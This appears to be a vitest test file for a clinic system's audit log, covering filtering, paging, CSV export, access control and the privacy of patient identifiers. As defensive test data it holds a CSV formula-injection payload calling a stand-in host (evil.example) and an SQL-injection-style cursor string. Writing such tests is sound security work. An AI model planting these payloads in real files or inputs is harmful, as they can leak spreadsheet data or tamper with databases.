import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Caller } from '../../shared/roles.ts';
import { startTestApp, type TestApp } from '../../tests/support/app.ts';
import { demoTherapy, slotAfter } from '../../tests/support/demo.ts';
import { failure } from '../../tests/support/errors.ts';
import { makeIin } from '../../tests/support/iin.ts';
import { registerPatient } from '../../tests/support/patients.ts';
import { AUDIT_EXPORT_MAX_ROWS, audit } from './index.ts';

/**
 * The audit log as an admin reads it in the console and an inspector gets it: who (a staff member
 * by name, a token by its name, the Telegram user the bot acted for), which patient, what, when and
 * through what; newest first a page at a time, filtered, exported as CSV; reading it is recorded.
 */
let t: TestApp;
let admin: ReturnType<TestApp['client']>;
let adminId: number;
let marta: { id: number };
let nextUser = 7_800_000;

/** Entries written straight through the module's writer, as any use case writes them. */
async function write(caller: Caller, at: Date, action: string, patientId: number | null, times = 1) {
  const em = t.app.orm.em.fork();
  for (let i = 0; i < times; i++) audit(em, caller, at, action, patientId);
  await em.flush();
}

const sql = async <T>(text: string, params: unknown[] = []) =>
  (await t.app.orm.em.fork().getConnection().execute(text, params)) as T[];

beforeAll(async () => {
  t = await startTestApp();
  const system = t.app.caller({ kind: 'system' });
  const account = await system.staff.create({
    username: 'auditor.admin',
    // A comma and a quote: the CSV must keep the name in one field.
    displayName: 'Ахметова, Гульнара "старшая"',
    password: 'a long enough password',
    roles: ['admin'],
  });
  adminId = account.id;
  const { token } = await t
    .client()
    .auth.login.mutate({ username: 'auditor.admin', password: 'a long enough password' });
  admin = t.client(token);
  // Someone named so that a spreadsheet would run it as a formula.
  const m = await system.staff.create({
    username: 'marta',
    displayName: '=HYPERLINK("x")',
    password: 'a long enough password',
    roles: ['registrar'],
  });
  marta = { id: m.id };
});
afterAll(() => t.stop());

describe('the audit log', () => {
  it('says who, which patient, what, when and through what, with readable names', async () => {
    const patient = await registerPatient(t.app, ++nextUser);
    // A staff member signed in (the console), an internal tool's token, the bot, a job.
    const registrar = t.client(await t.tokenFor('registrar'));
    await registrar.patients.staff.guardians.query({ patientId: patient.id });
    await admin.patients.staff.guardians.query({ patientId: patient.id });
    await write({ kind: 'system' }, t.clock.now(), 'test.job', patient.id);

    const { items } = await admin.audit.entries.query({ patientId: patient.id, limit: 50 });
    const seen = items.map((e) => [e.action, e.via, e.actor.kind, e.actor.name]);
    expect(seen).toContainEqual([
      'family.guardians_read',
      'console',
      'staff',
      'Ахметова, Гульнара "старшая"',
    ]);
    expect(seen).toContainEqual(['family.guardians_read', 'service', 'service', 'test-registrar']);
    expect(seen).toContainEqual(['test.job', 'job', 'system', null]);
    expect(seen).toContainEqual(['patient.register', 'bot', 'telegram', null]);
    const mine = items.find((e) => e.via === 'console')!;
    expect(mine.actor).toMatchObject({
      key: `staff:${adminId}`,
      staffAccountId: adminId,
      username: 'auditor.admin',
    });
    expect(items.find((e) => e.via === 'bot')!.actor.telegramUserId).toBe(nextUser);
    // Newest first.
    const times = items.map((e) => e.at.getTime());
    expect([...times].sort((a, b) => b - a)).toEqual(times);
  });

  it('filters by patient, staff account, action or its prefix, period and channel', async () => {
    const base = new Date('2031-03-01T10:00:00Z');
    const marthaCaller: Caller = { kind: 'staff', accountId: marta.id, name: 'marta', roles: ['registrar'] };
    const tool: Caller = { kind: 'service', name: 'lab-import', roles: ['doctor'] };
    await write(marthaCaller, base, 'filters.document.list', 4101);
    await write(marthaCaller, new Date(base.getTime() + 3_600_000), 'filters.invoice.read', 4102);
    await write(tool, new Date(base.getTime() + 7_200_000), 'filters.document.issue', 4101);

    const actions = async (filter: Parameters<typeof admin.audit.entries.query>[0]) =>
      (await admin.audit.entries.query({ actionPrefix: 'filters.', ...filter })).items.map((e) => e.action);
    expect(await actions({ patientId: 4101 })).toEqual(['filters.document.issue', 'filters.document.list']);
    expect(await actions({ staffAccountId: marta.id })).toEqual([
      'filters.invoice.read',
      'filters.document.list',
    ]);
    expect(await actions({ actor: 'service:lab-import' })).toEqual(['filters.document.issue']);
    expect(await actions({ actionPrefix: 'filters.document.' })).toEqual([
      'filters.document.issue',
      'filters.document.list',
    ]);
    expect(await actions({ action: 'filters.invoice.read' })).toEqual(['filters.invoice.read']);
    // From inclusive, to exclusive.
    expect(await actions({ from: base, to: new Date(base.getTime() + 3_600_000) })).toEqual([
      'filters.document.list',
    ]);
    expect(await actions({ via: ['service'] })).toEqual(['filters.document.issue']);
    // A prefix is a prefix, not a pattern.
    expect(await actions({ actionPrefix: 'filters.%' })).toEqual([]);

    const row = (await admin.audit.entries.query({ action: 'filters.invoice.read' })).items[0]!;
    expect(row.actor).toMatchObject({ kind: 'staff', name: '=HYPERLINK("x")', username: 'marta' });
    expect(row.patientId).toBe(4102);
  });

  it('pages through entries of one instant without skipping or repeating any', async () => {
    const at = new Date('2031-04-01T09:00:00Z');
    await write({ kind: 'system' }, new Date(at.getTime() + 1), 'paging.later', 4200);
    await write({ kind: 'system' }, at, 'paging.same', 4200, 7);
    await write({ kind: 'system' }, new Date(at.getTime() - 1), 'paging.earlier', 4200);

    const pages: { id: number; action: string }[][] = [];
    let cursor: string | null = null;
    do {
      const page: { items: { id: number; action: string }[]; nextCursor: string | null } =
        await admin.audit.entries.query({ patientId: 4200, actionPrefix: 'paging.', limit: 3, cursor });
      pages.push(page.items.map((e) => ({ id: e.id, action: e.action })));
      cursor = page.nextCursor;
    } while (cursor);

    expect(pages.map((p) => p.length)).toEqual([3, 3, 3]);
    const all = pages.flat();
    expect(new Set(all.map((e) => e.id)).size).toBe(9);
    expect(all[0]!.action).toBe('paging.later');
    expect(all.at(-1)!.action).toBe('paging.earlier');
    // Within the instant, the later entry first.
    const same = all.filter((e) => e.action === 'paging.same').map((e) => e.id);
    expect(same).toEqual([...same].sort((a, b) => b - a));
  });

  it('refuses a cursor it did not give', async () => {
    expect((await failure(admin.audit.entries.query({ cursor: "2031-01-01T00:00:00Z'; drop" }))).code).toBe(
      'BAD_REQUEST',
    );
  });

  it('exports the matching entries as CSV with a header row, names kept in their field', async () => {
    await write(
      { kind: 'staff', accountId: adminId, name: 'a', roles: ['admin'] },
      t.clock.now(),
      'export.one',
      4300,
    );
    await write(
      { kind: 'staff', accountId: marta.id, name: 'm', roles: ['registrar'] },
      t.clock.now(),
      'export.two',
      4300,
    );
    const file = await admin.audit.export.mutate({ patientId: 4300, actionPrefix: 'export.' });
    expect(file.rows).toBe(2);
    expect(file.filename).toMatch(/^audit-\d{8}-\d{4}\.csv$/);
    const lines = file.csv
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[0]).toBe('id,at_utc,actor,actor_name,actor_username,via,action,patient_id');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(`,staff:${marta.id},"'=HYPERLINK(""x"")",marta,console,export.two,4300`);
    expect(lines[2]).toContain(
      `,staff:${adminId},"Ахметова, Гульнара ""старшая""",auditor.admin,console,export.one,4300`,
    );
  });

  it('runs no formula in a spreadsheet that splits on semicolons or tabs (Excel in Russian or Kazakh)', async () => {
    // An admin names a colleague so; the inspector opens the file in an Excel whose list separator
    // is ";", where a quote in the middle of a line protects nothing.
    const named = await t.app.caller({ kind: 'system' }).staff.create({
      username: 'semicolon',
      displayName: 'Ким; =HYPERLINK("http://evil.example/?"&A1);\t+1+1,@SUM(1)',
      password: 'a long enough password',
      roles: ['registrar'],
    });
    await write(
      { kind: 'staff', accountId: named.id, name: 'semicolon', roles: ['registrar'] },
      t.clock.now(),
      'export.semicolon',
      4350,
    );
    const file = await admin.audit.export.mutate({ patientId: 4350 });
    const lines = file.csv
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    for (const separator of [',', ';', '\t'])
      for (const line of lines)
        for (const cell of line.split(separator))
          expect(cell.replace(/^[\s"]+/, ''), `split on ${JSON.stringify(separator)}`).not.toMatch(
            /^[=+\-@]/,
          );
  });

  it('refuses a patient id or a period no log can hold with a clear error, not a server fault', async () => {
    for (const input of [
      { patientId: 2 ** 40 },
      { staffAccountId: 2 ** 40 },
      { from: new Date('0001-01-01T00:00:00Z'), to: new Date(8.64e15) },
    ]) {
      expect((await failure(admin.audit.entries.query(input))).code).toBe('BAD_REQUEST');
      expect((await failure(admin.audit.export.mutate(input))).code).toBe('BAD_REQUEST');
    }
  });

  it('carries no IIN or phone of the patients it names', async () => {
    const iin = makeIin('1990-07-21', 'male');
    const patient = await registerPatient(t.app, ++nextUser, { iin, sex: 'male', birthDate: '1990-07-21' });
    await t.client(await t.tokenFor('registrar')).patients.staff.guardians.query({ patientId: patient.id });
    const listed = await admin.audit.entries.query({ patientId: patient.id });
    const file = await admin.audit.export.mutate({ patientId: patient.id });
    expect(file.rows).toBeGreaterThan(1);
    const phoneDigits = patient.phone!.replace(/\D/g, '').slice(-10);
    for (const text of [JSON.stringify(listed), file.csv]) {
      expect(text).not.toContain(iin);
      expect(text).not.toContain(phoneDigits);
    }
  });

  it(`refuses an export of more than ${AUDIT_EXPORT_MAX_ROWS} entries, saying how many matched`, async () => {
    await sql(
      `insert into patients_audit_entry (actor, action, patient_id, at, via)
         select 'system', 'bulk.entry', null, now(), 'job' from generate_series(1, ?)`,
      [AUDIT_EXPORT_MAX_ROWS + 1],
    );
    const refused = await failure(admin.audit.export.mutate({ action: 'bulk.entry' }));
    expect(refused.domain).toEqual({
      module: 'audit',
      code: 'export_too_large',
      params: { count: AUDIT_EXPORT_MAX_ROWS + 1, max: AUDIT_EXPORT_MAX_ROWS },
    });
    await sql(
      `delete from patients_audit_entry where action = 'bulk.entry' and id = (select max(id) from patients_audit_entry where action = 'bulk.entry')`,
    );
    expect((await admin.audit.export.mutate({ action: 'bulk.entry' })).rows).toBe(AUDIT_EXPORT_MAX_ROWS);
  });

  it('records reading and exporting the log, as who and through what', async () => {
    await admin.audit.entries.query({ patientId: 4400 });
    await admin.audit.export.mutate({ patientId: 4400 });
    const rows = await sql<{ actor: string; via: string; action: string }>(
      `select actor, via, action from patients_audit_entry where patient_id = 4400 order by id`,
    );
    expect(rows).toEqual([
      { actor: `staff:${adminId}`, via: 'console', action: 'audit.read' },
      { actor: `staff:${adminId}`, via: 'console', action: 'audit.export' },
    ]);
  });

  it('is for admins only: a registrar, an operator, a marketer, a doctor or the bot is refused', async () => {
    for (const role of ['registrar', 'operator', 'marketer', 'doctor'] as const) {
      const client = t.client(await t.tokenFor(role));
      expect((await failure(client.audit.entries.query({ patientId: 4300 }))).code).toBe('FORBIDDEN');
      expect((await failure(client.audit.export.mutate({ patientId: 4300 }))).code).toBe('FORBIDDEN');
    }
    const bot = t.app.caller({ kind: 'bot', name: 'bot', telegramUserId: 1 });
    expect((await failure(bot.audit.entries({}))).code).toBe('FORBIDDEN');
    expect((await failure(t.client().audit.entries.query({}))).code).toBe('UNAUTHORIZED');
  });

  it("records staff's reads of a patient's visits, tickets, invoices and messages, and every change of a visit", async () => {
    const therapy = await demoTherapy(t);
    const patient = await registerPatient(t.app, ++nextUser);
    const registrar = t.client(await t.tokenFor('registrar'));
    const slot = await slotAfter(t, therapy, 3);
    const booked = await registrar.booking.staff.book.mutate({
      ...therapy,
      patientId: patient.id,
      startsAt: slot.startsAt,
    });
    await registrar.booking.staff.dayBoard.query({
      branchId: therapy.branchId,
      date: slot.startsAt.toISOString().slice(0, 10),
    });
    await registrar.booking.staff.get.query({ appointmentId: booked.id });
    await registrar.booking.staff.setStatus.mutate({ appointmentId: booked.id, status: 'confirmed' });
    await registrar.booking.staff.cancel.mutate({ appointmentId: booked.id, reason: 'doctor_unavailable' });
    await t.app
      .caller({ kind: 'bot', name: 'bot', telegramUserId: nextUser })
      .support.tickets.open({ text: 'Вопрос', sourceKey: 'audit-test-1' });
    await registrar.support.staff.inbox.query({});
    await registrar.payments.staff.invoices.query({});
    await registrar.notifications.timeline.query({ patientId: patient.id });

    const { items } = await admin.audit.entries.query({
      patientId: patient.id,
      via: ['service'],
      limit: 200,
    });
    const actions = new Set(items.map((e) => e.action));
    for (const action of [
      'appointment.booked',
      'appointment.day_board',
      'appointment.read',
      'appointment.confirmed',
      'appointment.cancelled',
      'ticket.inbox',
      'notifications.timeline',
    ])
      expect(actions, action).toContain(action);
    expect(items.every((e) => e.actor.key === 'service:test-registrar')).toBe(true);
  });
});
